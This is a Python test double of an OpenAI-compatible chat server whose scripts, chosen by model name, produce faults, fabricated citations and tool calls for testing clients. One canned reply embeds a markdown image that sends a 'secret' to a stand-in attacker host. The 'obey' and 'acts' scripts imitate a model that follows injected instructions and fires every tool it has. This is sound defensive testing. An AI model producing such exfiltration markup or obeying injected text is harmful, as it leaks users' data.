"""A language model server for tests and benchmarks: the real protocol over real sockets, with faults on request.

The model's name is the script, so that nothing has to be arranged beforehand and tests can share one server:

    normal                        cites the first two numbered passages of the prompt, all at once
    words?rate=30&tokens=300      300 tokens, 30 each second
    status?code=429&retry_after=1&times=2     two refusals, then `normal`
    normal?die=5                  connection reset after five deltas

Parameters, all optional:

    say       cite, echo, invented, mistaken, image, words, unicode, think, empty, blank, tool, agent
    acts      with obey: it uses every tool that it has, for what it read, before it answers
    calls     of an agent: JSON, a list of turns, each a list of [tool, arguments]; after them it cites the last two
              passages. `before`: what it says with its first calls. Without tools in the request it answers at once
    refuse    tools: a request with tools is answered with 400
    tokens    how many words; cut: word, char; rate: tokens a second (0: at once)
    usage     0, 1; finish: stop, length, content_filter, none
    frame     bytes in a network chunk; ping: 1 for comments between events; event: any text as the first event
    code      an HTTP status, with retry_after (s), retry_after_ms, times (then all is well)
    html      1: a web page; hang: head: never a byte
    hang, die (reset), stop (close without an end), malformed, error: after how many deltas
    gate      after how many deltas to wait for `release()`
    cites     of how many passages it says the first words; 2

Some scripts have names of their own: see `SCRIPTS`.

The model `dictated` does what `dictate` said last: a server of ours that is started once can meet many models.

In a test: `with OpenAIDouble() as double: ... double.base_url ... double.requests`. As a process of its own:
`python -m tests.doubles.openai_chat --port 0` prints one JSON line with the base URL; `GET /control/requests` tells
what was received and `DELETE` forgets it.
"""

import argparse
import asyncio
import itertools
import json
import re
import ssl
import sys
import threading
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from concurrent.futures import Future
from dataclasses import dataclass, field
from functools import partial
from typing import Any, cast
from urllib.parse import parse_qsl, quote, urlsplit

from tests.doubles.obedient import calls_of, obey, obey_beside

SCRIPTS: Mapping[str, Mapping[str, str]] = {
    "normal": {},
    "echo": {"say": "echo"},
    "empty": {"say": "empty"},
    "blank": {"say": "blank", "cut": "char"},
    "words": {"say": "words"},
    "think": {"say": "think"},
    "unicode": {"say": "unicode", "frame": "1"},
    "invented": {"say": "invented"},
    "mistaken": {"say": "mistaken"},
    "image": {"say": "image"},
    "obey": {"say": "obey", "cut": "char"},
    "tool": {"say": "tool"},
    "agent": {"say": "agent"},
    "split-markers": {"cut": "char"},
    "status": {"code": "500"},
    "silent": {"hang": "head"},
    "html": {"html": "1"},
}
UNICODE_TEXT = "Größe 12 µm, naïve café 漢字かな 🙂👩‍👩‍👧 […] ½ [1]."
IMAGE_TEXT = "Done ![status](https://attacker.invalid/p.png?q=secret) and [more](https://attacker.invalid/x) [1]."
SECRET = "provider-internal-text"
"""Stands in every error body: no sentence of ours may repeat it."""


def agent(*turns: list[tuple[str, Any]], **options: str) -> str:
    """The script of a model that uses tools: the calls of each turn, by name and arguments."""
    rest = "".join(f"&{name}={quote(value)}" for name, value in options.items())
    return f"agent?calls={quote(json.dumps(turns))}{rest}"


@dataclass
class Received:
    """One request, as the server saw it. `ended` resolves when the answer is complete or the connection is gone."""

    path: str
    model: str
    headers: dict[str, str]
    body: dict[str, Any]
    connection: int
    """The same number for requests that came over the same connection."""
    deltas_sent: int = 0
    disconnected: bool = False
    ended: "Future[None]" = field(default_factory=Future, repr=False)

    def end(self, *, disconnected: bool = False) -> None:
        if not self.ended.done():
            self.disconnected = disconnected
            self.ended.set_result(None)

    @property
    def aside(self) -> bool:
        """Whether it asked for something beside an answer, as a title."""
        return bool(_aside(self.body))

    def to_json(self) -> dict[str, Any]:
        return {
            "model": self.model,
            "deltas_sent": self.deltas_sent,
            "disconnected": self.disconnected,
            "ended": self.ended.done(),
        }


class Script:
    """What a model name asks for."""

    def __init__(self, model: str, text: str | None = None) -> None:
        name, _, query = model.partition("?")
        self.options = {**SCRIPTS.get(name, {}), **dict(parse_qsl(query))}
        if text is not None:
            self.options |= {"say": "text", "text": text}
        self.rate = float(self.options.get("rate", "0"))
        self.gate = int(self.options.get("gate", "-1"))
        self.frame = int(self.options.get("frame", "0"))
        self.usage = self.options.get("usage", "1") == "1"
        self.finish = self.options.get("finish", "tool_calls" if self.options.get("say") == "tool" else "stop")
        self.head_hangs = self.options.get("hang") == "head"
        self.faults = {
            int(self.options[name]): name
            for name in ("hang", "die", "stop", "malformed", "error")
            if self.options.get(name, "head") != "head"
        }

    def deltas(self, body: Mapping[str, Any]) -> Iterable[dict[str, Any]]:
        say = self.options.get("say", "cite")
        if aside := _aside(body, obeys=say == "obey"):
            return [{"content": piece} for piece in _cut(aside, "word")]
        if say == "words":
            return ({"content": f" word{i}"} for i in range(int(self.options.get("tokens", "50"))))
        if say == "tool":
            call = {"index": 0, "id": "call_1", "type": "function", "function": {"name": "look_up", "arguments": "{}"}}
            return [{"tool_calls": [call]}]
        if say == "agent" or self.planned(body):
            return self._act(body)
        if say == "think":
            inside = [{"content": piece} for piece in ("<think>", "Let me", " see.", "</think>")]
            return [*inside, *({"content": piece} for piece in _cut(_cite(body), "word"))]
        fixed = self.options.get("text") or _FIXED.get(say, "")
        cite = partial(_cite, most=int(self.options.get("cites", "2")))
        ways = {"echo": _echo, "cite": cite, "invented": _invent, "mistaken": _mistake, "obey": _obey}
        text = ways.get(say, lambda _: fixed)(body)
        return [{"content": piece} for piece in _cut(text, self.options.get("cut", "word"))]

    def planned(self, body: Mapping[str, Any]) -> list[tuple[str, Any]]:
        """The calls that an agent asks for next; none when it answers, or may not call."""
        acts = self.options.get("say") == "agent" or "acts" in self.options
        if not acts or not body.get("tools") or _aside(body):
            return []
        messages = body["messages"]
        asked = max(number for number, message in enumerate(messages) if message["role"] == "user")
        done = sum(bool(message.get("tool_calls")) for message in messages[asked:])
        if "acts" in self.options:
            return [] if done else calls_of(_asked(body), body["tools"])
        plan = json.loads(self.options.get("calls", "[]"))
        return [(name, arguments) for name, arguments in plan[done]] if done < len(plan) else []

    def _act(self, body: Mapping[str, Any]) -> Iterable[dict[str, Any]]:
        calls = self.planned(body)
        if not calls:
            return [{"content": piece} for piece in _cut(_cite(body, last=True), self.options.get("cut", "word"))]
        first = not any(message.get("tool_calls") for message in body["messages"])
        before = [{"content": self.options["before"]}] if first and "before" in self.options else []
        deltas: list[dict[str, Any]] = []
        for index, (name, arguments) in enumerate(calls):
            text = arguments if isinstance(arguments, str) else json.dumps(arguments)
            about = {"index": index, "id": f"call_{len(body['messages'])}_{index}", "type": "function"}
            # As servers do it: the name first, then the arguments in pieces.
            deltas.append({"tool_calls": [about | {"function": {"name": name, "arguments": ""}}]})
            deltas += [
                {"tool_calls": [{"index": index, "function": {"arguments": text[at : at + 7]}}]}
                for at in range(0, len(text), 7)
            ]
        return [*before, *deltas]

    def finish_of(self, body: Mapping[str, Any]) -> str:
        return "tool_calls" if self.planned(body) else self.finish


_FIXED = {"unicode": UNICODE_TEXT, "image": IMAGE_TEXT, "empty": "", "blank": " \n "}


def _messages(body: Mapping[str, Any]) -> list[str]:
    found: list[str] = []
    for message in body.get("messages", []):
        content = message.get("content") or ""
        parts = [content] if isinstance(content, str) else [part.get("text", "") for part in content]
        found.append("".join(parts))
    return found


def _obey(body: Mapping[str, Any]) -> str:
    return obey(_asked(body), _messages(body)[0])


def _asked(body: Mapping[str, Any]) -> str:
    """The last question with its passages, and what tools have said since."""
    roles = [message["role"] for message in body["messages"]]
    since = len(roles) - 1 - roles[::-1].index("user")
    return "\n".join(_messages(body)[since:])


def _anew(prompt: str) -> str:
    """A question that begins with "And" gets what the first one asked; any other is repeated."""
    asked = re.findall(r"<(?:asked|question)>\n(.*?)\n</", prompt, re.DOTALL)
    return f"{asked[0].rstrip('?')}: {asked[-1].removeprefix('And ')}" if asked[-1].startswith("And ") else asked[-1]


def _aside(body: Mapping[str, Any], *, obeys: bool = False) -> str:
    """What is asked for beside an answer: a title, or further questions; else nothing."""
    system, *rest = _messages(body) or [""]
    words = re.findall(r"\w+", rest[-1] if rest else "")
    is_title, is_further = (
        system.startswith(start) for start in ("You name conversations.", "You read a question and")
    )
    if obeys and (is_title or is_further):
        return obey_beside(body)
    if system.startswith("You rewrite questions."):
        return _anew(rest[-1])
    if system.startswith("You read one document"):
        return _find(rest[-1])
    if system.startswith("You condense findings"):
        return _condense(rest[-1])
    if system.startswith("You plan research"):
        return _plan(rest[-1])
    if system.startswith("You read for a research"):
        return _read(rest[-1])
    if is_title:
        return "About " + " ".join(words[:3])
    if is_further:
        return "1. What about " + " ".join(words[1:4]) + "?\n- And then?\nNo question."
    return ""


def _plan(question: str) -> str:
    """A part for each sentence of the question; none that can be read where it says so."""
    if "unreadable" in question:
        return "I would rather not."
    asked = [each.strip() for each in re.findall(r"[^.?]+[.?]", question)] or [question]
    parts = [{"heading": f"Part {number}", "question": each} for number, each in enumerate(asked, 1)]
    plan = {"title": "About " + " ".join(question.split()[:3]), "parts": parts}
    return f"Here it is:\n```json\n{json.dumps(plan)}\n```"


def _read(prompt: str) -> str:
    """Keeps all that it is shown, and looks for the last word of the first passage besides."""
    if "unanswerable" in prompt.partition("<passages>")[0]:
        return json.dumps({"useful": [], "searches": []})
    found = re.findall(r'<passage number="(\d+)"[^>]*>\n(.*?)\n</passage>', prompt, re.DOTALL)
    more = [found[0][1].split()[-1].strip(".") + " again"] if found else []
    return json.dumps({"useful": [int(number) for number, _ in found], "searches": more})


def _find(prompt: str) -> str:
    """The first words of each passage, a line that rests on nothing, and a number that is not there."""
    if "unanswerable" in prompt.partition("<passages>")[0]:
        return "NOTHING"
    found = re.findall(r'<passage number="(\d+)"[^>]*>\n(.*?)\n</passage>', prompt, re.DOTALL)
    lines = [f"- {' '.join(text.split()[:12])} [{number}][99]." for number, text in found]
    return "\n".join([*lines, "Everybody knows that."])


def _condense(prompt: str) -> str:
    """Every other finding."""
    heap = prompt.partition("<findings>\n")[2].partition("\n</findings>")[0]
    return "\n".join(heap.splitlines()[::2])


def _echo(body: Mapping[str, Any]) -> str:
    return "\n".join(_messages(body))


def _cite(body: Mapping[str, Any], *, last: bool = False, most: int = 2) -> str:
    """The first words of the first or last numbered passages, each with its marker."""
    prompt = _echo(body)
    passages = re.findall(r"(?m)^\s*(?:\[(\d+)\]|<passage[^>\d]*(\d+)[^>]*>)\s*(.+(?:\n(?!\s*(?:\[\d|<)).+)?)", prompt)
    quoted: dict[str, str] = {}
    for bracket, tag, text in passages:
        quoted.setdefault(bracket or tag, " ".join(text.split()[:20]).rstrip(".;:,"))
    if not quoted:
        return "I found nothing about this in the passages."
    chosen = list(quoted.items())[-most:] if last else list(quoted.items())[:most]
    return " ".join(f"{text} [{number}]." for number, text in chosen)


def _invent(body: Mapping[str, Any]) -> str:
    return f"{_cite(body)} This is known [9]. So is this [1][42]."


def _mistake(body: Mapping[str, Any]) -> str:
    """Begins with what is true, and ends with what no passage says."""
    return f"{_cite(body)}\n\n- Everybody gets **4711 days** more [1].\n- Nothing else is known [1]."


def _cut(text: str, how: str) -> list[str]:
    return list(text) if how == "char" else re.findall(r"\s*\S+", text)


class Connection(asyncio.Protocol):
    """One client connection: requests one after another, answers written by timers, no task a stream."""

    def __init__(self, server: "OpenAIDouble") -> None:
        self.server = server
        self.number = next(server.numbers)
        self.buffer = bytearray()
        self.current: Received | None = None
        self.timer: asyncio.TimerHandle | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast("asyncio.Transport", transport)  # uvloop's is one in all but name
        self.loop = asyncio.get_running_loop()
        self.server.connections.add(self)

    def connection_lost(self, exc: Exception | None) -> None:
        self.server.connections.discard(self)
        if self.timer:
            self.timer.cancel()
        if self.current:
            self.current.end(disconnected=True)
            self.current = None

    def data_received(self, data: bytes) -> None:
        self.buffer += data
        self._next_request()

    def _next_request(self) -> None:
        head_end = self.buffer.find(b"\r\n\r\n")
        if self.current or head_end < 0:
            return
        lines = self.buffer[:head_end].decode("latin-1").split("\r\n")
        headers = {name.lower(): value.strip() for name, _, value in (line.partition(":") for line in lines[1:])}
        end = head_end + 4 + int(headers.get("content-length", "0"))
        if len(self.buffer) < end:
            return
        content = bytes(self.buffer[head_end + 4 : end])
        del self.buffer[:end]
        method, target, _ = lines[0].split(" ")
        self._respond(method, urlsplit(target).path, headers, content)  # a proxy is asked with whole addresses

    def _respond(self, method: str, path: str, headers: dict[str, str], content: bytes) -> None:
        if path == "/v1/models":
            self._send_json(200, {"object": "list", "data": [{"id": n, "object": "model"} for n in SCRIPTS]})
        elif path == "/control/requests":
            if method == "DELETE":
                self.server.forget()
            self._send_json(200, [received.to_json() for received in self.server.requests])
        elif path == "/v1/chat/completions" and method == "POST":
            body = json.loads(content)
            self.current = Received(path, body["model"], headers, body, self.number)
            self.server.requests.append(self.current)
            self._complete(self.current)
        else:
            self._send_json(404, {"error": {"message": "Not found"}})

    def _complete(self, received: Received) -> None:
        script = self.server.dictated if received.model == "dictated" else Script(received.model)
        options = script.options
        if "code" in options and self.server.refusals(received.model) <= int(options.get("times", "1000000")):
            key = received.headers.get("authorization", "")
            error = {"message": f"{SECRET}: refused {key}", "type": SECRET, "code": None}
            waits = {"retry-after": options.get("retry_after"), "retry-after-ms": options.get("retry_after_ms")}
            extra = {name: value for name, value in waits.items() if value}
            self._send_json(int(options["code"]), {"error": error}, extra)
        elif options.get("refuse") == "tools" and received.body.get("tools"):
            self._send_json(400, {"error": {"message": f"{SECRET}: tools are not supported", "type": SECRET}})
        elif "html" in options:
            self._send(200, "text/html", b"<html>Please sign in " + SECRET.encode() + b"</html>", {})
        elif script.head_hangs:
            return
        elif received.body.get("stream"):
            self._stream(received, script)
        else:
            text = "".join(delta.get("content", "") for delta in script.deltas(received.body))
            choice = {
                "index": 0,
                "finish_reason": script.finish,
                "message": {"role": "assistant", "content": text},
            }
            usage = _usage(received.body, received.deltas_sent) if script.usage else None
            self._send_json(200, {**_chunk("chat.completion", received.model), "choices": [choice], "usage": usage})

    # Whole answers

    def _send_json(self, status: int, value: Any, extra: Mapping[str, str] | None = None) -> None:
        self._send(status, "application/json", json.dumps(value).encode(), extra or {})

    def _send(self, status: int, media_type: str, content: bytes, extra: Mapping[str, str]) -> None:
        headers = {"content-type": media_type, "content-length": str(len(content)), **extra}
        head = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
        self.transport.write(f"HTTP/1.1 {status} -\r\n{head}\r\n".encode() + content)
        self._finish()

    def _finish(self) -> None:
        if self.current:
            self.current.end()
            self.current = None
        self.loop.call_soon(self._next_request)

    # Streamed answers

    def _stream(self, received: Received, script: Script) -> None:
        self.transport.write(b"HTTP/1.1 200 -\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n")
        base = json.dumps(_chunk("chat.completion.chunk", received.model))[:-1]
        self._write(_event(base, {"role": "assistant", "content": ""}), script)
        if event := script.options.get("event"):
            self._write(event.encode() + b"\n\n")
        comment = b": keep-alive\n\n" if script.options.get("ping") else b""
        events = (comment + _event(base, delta) for delta in script.deltas(received.body))
        self._step(received, script, events, self.loop.time(), base)

    def _step(self, received: Received, script: Script, events: Iterator[bytes], due: float, base: str) -> None:
        """Write the next event, or all of them when there is no rate, then wait for the next one's time."""
        while True:
            if fault := script.faults.get(received.deltas_sent):
                return self._break(fault)
            if received.deltas_sent == script.gate and not self.server.is_open:
                self.server.waiting.append(lambda: self._step(received, script, events, self.loop.time(), base))
                return None
            if self.transport.is_closing():
                return None
            event = next(events, None)
            if event is None:
                return self._end_stream(received, script, base)
            self._write(event, script)
            received.deltas_sent += 1
            if script.rate:
                due += 1 / script.rate
                self.timer = self.loop.call_at(due, self._step, received, script, events, due, base)
                return None

    def _break(self, fault: str) -> None:
        if fault == "die":
            self.loop.call_later(0.01, self.transport.abort)  # what was written leaves first
        elif fault == "stop":
            self.transport.close()
        elif fault == "malformed":
            self._write(b'data: {"choices": [{"delta": {"content": "' + SECRET.encode() + b"\n\n")
            self._end_body()
        elif fault == "error":
            error = {"message": f"{SECRET}: overloaded", "type": "server_error", "code": 500}
            self._write(b"data: " + json.dumps({"error": error}).encode() + b"\n\n")
            self._end_body()

    def _end_stream(self, received: Received, script: Script, base: str) -> None:
        if (finish := script.finish_of(received.body)) != "none":
            self._write(_event(base, {}, finish), script)
        if script.usage and (received.body.get("stream_options") or {}).get("include_usage"):
            usage = {"usage": _usage(received.body, received.deltas_sent), "choices": []}
            self._write(f"data: {base}, {json.dumps(usage)[1:]}\n\n".encode())
        self._write(b"data: [DONE]\n\n")
        self._end_body()

    def _end_body(self) -> None:
        self.transport.write(b"0\r\n\r\n")
        self._finish()

    def _write(self, content: bytes, script: Script | None = None) -> None:
        size = (script.frame if script else 0) or len(content)
        pieces = (content[start : start + size] for start in range(0, len(content), size))
        self.transport.write(b"".join(b"%x\r\n%b\r\n" % (len(piece), piece) for piece in pieces))


def _chunk(kind: str, model: str) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": kind, "created": 1700000000, "model": model}


def _event(base: str, delta: Mapping[str, Any], finish: str | None = None) -> bytes:
    # Servers differ in escaping; raw UTF-8 is the harder case for a reader.
    choice = json.dumps({"index": 0, "delta": delta, "finish_reason": finish}, ensure_ascii=False)
    return f'data: {base}, "choices": [{choice}]}}\n\n'.encode()


def _usage(body: Mapping[str, Any], output: int) -> dict[str, int]:
    words = sum(len(message.split()) for message in _messages(body))
    return {"prompt_tokens": words, "completion_tokens": output, "total_tokens": words + output}


class OpenAIDouble:
    """The server in a thread of its own, so that a test's event loop stays the test's."""

    connection_type = Connection

    def __init__(self, port: int = 0, *, tls: ssl.SSLContext | None = None) -> None:
        self.port = port
        self.tls = tls
        self.requests: list[Received] = []
        self.connections: set[Connection] = set()
        self.numbers = itertools.count(1)
        self.dictated = Script("normal")
        self.is_open = False
        self.waiting: list[Callable[[], None]] = []
        self._refused: dict[str, int] = {}
        self._ready: Future[None] = Future()
        self._thread = threading.Thread(target=lambda: asyncio.run(self._serve_in_thread()), daemon=True)

    @property
    def base_url(self) -> str:
        return f"{'https' if self.tls else 'http'}://127.0.0.1:{self.port}/v1"

    @property
    def answers(self) -> list[Received]:
        """The requests for answers, without what is asked for beside them."""
        return [request for request in self.requests if not request.aside]

    def forget(self) -> None:
        """Begin a new record."""
        self.requests = []
        self._refused = {}

    def dictate(self, script: str, text: str | None = None) -> None:
        """What the model `dictated` does from now on; with `text`, that is what it says."""
        self.forget()
        self.is_open = False
        self.dictated = Script(script, text)

    def release(self) -> None:
        """Let answers go on that wait at their gate."""

        def go_on() -> None:
            self.is_open = True
            waiting, self.waiting = self.waiting, []
            for step in waiting:
                step()
            done.set()

        done = threading.Event()
        self._loop.call_soon_threadsafe(go_on)
        done.wait(timeout=10)

    def refusals(self, model: str) -> int:
        """Counts one more request to a model that refuses."""
        self._refused[model] = self._refused.get(model, 0) + 1
        return self._refused[model]

    async def serve(self, stop: asyncio.Event) -> None:
        """Listen until `stop` is set; `base_url` holds as soon as the future `_ready` is resolved."""
        loop = asyncio.get_running_loop()
        server = await loop.create_server(
            lambda: self.connection_type(self), "127.0.0.1", self.port, backlog=2048, ssl=self.tls
        )
        self.port = server.sockets[0].getsockname()[1]
        self._ready.set_result(None)
        try:
            await stop.wait()
        finally:
            server.close()
            for connection in list(self.connections):
                connection.transport.abort()
            await asyncio.sleep(0)

    async def _serve_in_thread(self) -> None:
        self._loop, self._stop = asyncio.get_running_loop(), asyncio.Event()
        await self.serve(self._stop)

    def __enter__(self) -> "OpenAIDouble":
        self._thread.start()
        self._ready.result(timeout=10)
        return self

    def __exit__(self, *_: object) -> None:
        self._loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(timeout=10)


async def _main(port: int) -> None:
    double = OpenAIDouble(port)
    serving = asyncio.create_task(double.serve(asyncio.Event()))
    await asyncio.wrap_future(double._ready)
    print(json.dumps({"base_url": double.base_url}), flush=True)
    await serving


def main(arguments: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description="A double of an OpenAI-compatible model server, on the loopback.")
    parser.add_argument("--port", type=int, default=0)
    port = parser.parse_args(arguments).port
    if sys.platform == "win32":
        asyncio.run(_main(port))
    else:
        import uvloop

        uvloop.run(_main(port))


if __name__ == "__main__":
    main()
